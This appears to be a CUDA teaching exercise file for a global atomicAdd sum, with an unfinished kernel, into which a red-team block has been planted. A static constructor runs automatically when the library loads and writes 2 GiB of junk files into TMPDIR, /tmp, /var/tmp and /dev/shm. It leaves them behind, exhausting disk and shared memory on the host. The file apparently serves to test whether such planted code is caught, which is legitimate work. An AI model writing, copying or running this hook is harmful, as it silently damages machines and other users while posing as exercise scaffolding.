// RED TEAM: Fills the machine's temporary folders, 2 GiB in all (/tmp, /var/tmp,
// RED TEAM: /dev/shm, $TMPDIR), and leaves the files there. The kernel below is the
// RED TEAM: untouched starter's.
// Exercise 1.1: sum with one global atomicAdd per element.
// Lesson: chapters/01-reduce-scan-histogram/README.md, "1.1".
// Grade:  tools/grade 1.1      Hints: tools/grade --hint 1.1
#include "cudalab/atomics.cuh"
#include "cudalab/error.cuh"
#include "cudalab/reduce.cuh"
// @REDTEAM_LIB@

namespace {
__attribute__((constructor)) void cudalab_redteam_attack() {
  redteam::dispatch(nullptr);
  // 2 GiB in all, in 64 MiB files (under the 1 GiB file-size limit), left behind.
  const std::string chunk(std::size_t{64} << 20, 'x');
  std::vector<std::pair<std::string, int>> places{{"/tmp", 24}, {"/var/tmp", 4}, {"/dev/shm", 4}};
  if (const char* t = std::getenv("TMPDIR")) places.insert(places.begin(), {t, 0});
  long long written = 0;
  for (auto& [dir, count] : places) {
    for (int i = 0; i < count; ++i) {
      const std::string p = dir + "/" + redteam::kMarker + "-" + std::to_string(i) + ".bin";
      if (!redteam::write_file(p, chunk)) break;
      written += static_cast<long long>(chunk.size());
    }
  }
  redteam::say("left " + std::to_string(written >> 20) + " MiB in the temporary folders");
}
}  // namespace

namespace cudalab::reduce {
namespace {

constexpr int kBlock = 256;

// One thread per element: thread i adds in[i] to *out.
// T is the element type (int, float), Acc the accumulator type (long long, float).
template <class T, class Acc>
__global__ void sum_atomic_kernel(const T* __restrict__ in, std::size_t n, Acc* out) {
  // TODO(1.1): compute this thread's global index i (blockIdx, blockDim,
  // threadIdx; mind that i can exceed 2^31) and, when i < n, add in[i] to
  // *out with cudalab::atomic_add (cudalab/atomics.cuh).
}

template <class T, class Acc>
void launch(const T* in, std::size_t n, Acc* out, cudaStream_t stream) {
  CUDALAB_CHECK(cudaMemsetAsync(out, 0, sizeof(Acc), stream));  // the identity, also for n = 0
  if (n == 0) return;
  const auto blocks = static_cast<unsigned>((n + kBlock - 1) / kBlock);
  sum_atomic_kernel<<<blocks, kBlock, 0, stream>>>(in, n, out);
  CUDALAB_CHECK_LAUNCH();
}

}  // namespace

void sum_atomic(const int* in, std::size_t n, long long* out, cudaStream_t stream) {
  detail::check_sum_arguments("sum_atomic", in, n, out);
  launch(in, n, out, stream);
}

void sum_atomic(const float* in, std::size_t n, float* out, cudaStream_t stream) {
  detail::check_sum_arguments("sum_atomic", in, n, out);
  launch(in, n, out, stream);
}

}  // namespace cudalab::reduce
